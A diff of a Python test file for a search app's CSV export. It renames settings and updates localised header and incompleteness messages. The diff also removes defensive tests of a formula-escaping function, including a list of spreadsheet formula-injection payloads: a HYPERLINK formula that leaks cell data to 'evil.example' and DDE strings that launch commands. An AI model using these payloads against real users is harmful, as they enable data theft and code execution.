@@ -27,41 +27,23 @@ from searchapp.engines.local.engine import LocalEngine
 from searchapp.errors import EngineError
 from searchapp.model import Results
 from searchapp.plan import Deadline, ResultPage, SearchPlan
-from searchapp.search import search_in_windows
-from searchapp.search.serialization import CSV_COLUMNS
+from searchapp.search import export, search_in_windows
+from searchapp.search.export import RESULT_COLUMNS
 from searchapp.settings import Settings
-from searchapp.web import export
-from searchapp.web.export import as_csv, formula_safe
 from tests.web.conftest import MakeApp, index_files
 from tests.web.newsroom import PAYLOAD, PORT, TOTAL
 
 BYTE_ORDER_MARK = b"\xef\xbb\xbf"
-#: Well-known ways to make a spreadsheet program run, fetch or open something.
-FORMULAS = [
-    "=1+1",
-    '=HYPERLINK("https://evil.example?"&A1,"click")',
-    "=cmd|' /C calc'!A0",
-    "+1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "  =1+1",
-    "\u200f=1+1",
-    "\ufeff=1+1",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠SUM(1)",
-]
+TITLES = {column.title.text(language): column.name for column in RESULT_COLUMNS for language in ("ar", "en")}
 
 
 def rows(client: FlaskClient, **parameters: str) -> list[dict[str, str]]:
     response = client.get("/search.csv", query_string=parameters)
     assert response.status_code == 200
     assert response.data.startswith(BYTE_ORDER_MARK)
-    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"), newline=""), strict=True))
+    titles, *found = csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline=""), strict=True)
+    names = [TITLES[title] for title in titles]
+    return [dict(zip(names, row, strict=True)) for row in found]
 
 
 def windows_of(monkeypatch: pytest.MonkeyPatch, size: int, first: int | None = None) -> None:
@@ -75,7 +57,7 @@ def test_every_result_is_a_row_whatever_page_is_asked_for(client: FlaskClient) -
     assert {row["id"] for row in found if row["title"].startswith("تقرير")} == {
         f"saffron-{number:02}" for number in range(1, TOTAL + 1)
     }
-    assert tuple(found[0]) == CSV_COLUMNS
+    assert list(found[0]) == [column.name for column in RESULT_COLUMNS]
 
 
 def test_rows_are_the_results_of_the_api_in_the_same_order(client: FlaskClient) -> None:
@@ -119,18 +101,18 @@ def test_it_ends_where_paging_does_and_says_so(
 ) -> None:
     windows_of(monkeypatch, 5)
     whole = rows(make_app(settings).test_client(), q="الزعفران")
-    client = make_app(replace(settings, max_results=most)).test_client()
+    client = make_app(replace(settings, max_exported=most)).test_client()
     *found, last = rows(client, q="الزعفران", lang="en")
     assert found == whole[:most]
-    assert last == {**dict.fromkeys(CSV_COLUMNS, ""), "title": last["title"]}
-    assert last["title"] == f"This table is incomplete: {most} of {len(whole)}. {export.TOO_MANY.en}"
+    assert last == {**dict.fromkeys(found[0], ""), "title": last["title"]}
+    assert last["title"] == f"This file is incomplete: {most} of {len(whole)}. {export.TOO_MANY.en}"
     *_, last = rows(client, q="الزعفران", lang="ar")
-    assert last["title"] == f"هذا الجدول ناقص: {most} من {len(whole)}. {export.TOO_MANY.ar}"
+    assert last["title"] == f"هذا الملف ناقص: {most} من {len(whole)}. {export.TOO_MANY.ar}"
 
 
 def test_a_whole_table_has_only_articles(make_app: MakeApp, settings: Settings) -> None:
     whole = rows(make_app(settings).test_client(), q="الزعفران")
-    client = make_app(replace(settings, max_results=len(whole))).test_client()
+    client = make_app(replace(settings, max_exported=len(whole))).test_client()
     assert rows(client, q="الزعفران") == whole
     assert all(row["id"] for row in whole)
 
@@ -171,7 +153,7 @@ def test_a_table_that_takes_too_long_says_how_much_of_it_is_there(
     *found, last = rows(client, q="الزعفران", lang="en")
     assert found == whole[:10]
     assert last["id"] == ""
-    assert last["title"] == f"This table is incomplete: 10 of {len(whole)}. {export.NO_TIME.en}"
+    assert last["title"] == f"This file is incomplete: 10 of {len(whole)}. {export.NO_TIME.en}"
 
 
 def test_a_table_that_breaks_off_says_why(client: FlaskClient, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -233,7 +215,7 @@ def test_an_article_that_moves_to_a_later_page_is_one_row(
     index_files(settings, articles(range(20, 23)))
     lines += pieces
     response.close()
-    found = [row["id"] for row in csv.DictReader(io.StringIO(b"".join(lines).decode("utf-8-sig")))]
+    found = [row["المعرّف"] for row in csv.DictReader(io.StringIO(b"".join(lines).decode("utf-8-sig")))]
     assert found == [str(day) for day in range(10, 0, -1)]
 
 
@@ -251,24 +233,3 @@ def test_a_missing_index_is_an_error_and_no_table(make_app: MakeApp, tmp_path: P
 def test_hostile_texts_stay_what_they_are(client: FlaskClient) -> None:
     (row,) = [row for row in rows(client, q="زمرد") if row["id"] == "hostile-text"]
     assert row["title"] == f"زمرد {PAYLOAD}"
-
-
-@pytest.mark.parametrize("formula", FORMULAS)
-def test_formulas_are_texts(formula: str) -> None:
-    assert formula_safe(formula) == f"'{formula}"
-
-
-@pytest.mark.parametrize("text", ["", "نص", "قال - ثم سكت", "a=b", "x@example.org", "'quoted", "2025-11-06", "١٢"])
-def test_other_texts_are_left_alone(text: str) -> None:
-    assert formula_safe(text) == text
-
-
-@given(st.lists(st.lists(st.text() | st.integers() | st.floats(allow_nan=False), min_size=2, max_size=4)))
-def test_what_is_read_back_is_what_was_written(table: list[list[str | float]]) -> None:
-    written = "".join(as_csv(["a", "b"], table))
-    read = list(csv.reader(io.StringIO(written.removeprefix("\ufeff"), newline=""), strict=True))
-    assert read == [["a", "b"], *([formula_safe(c) if isinstance(c, str) else str(c) for c in row] for row in table)]
-
-
-def test_numbers_stay_numbers() -> None:
-    assert list(as_csv(["n"], [[-1.5], [-2]]))[1:] == ["-1.5\r\n", "-2\r\n"]
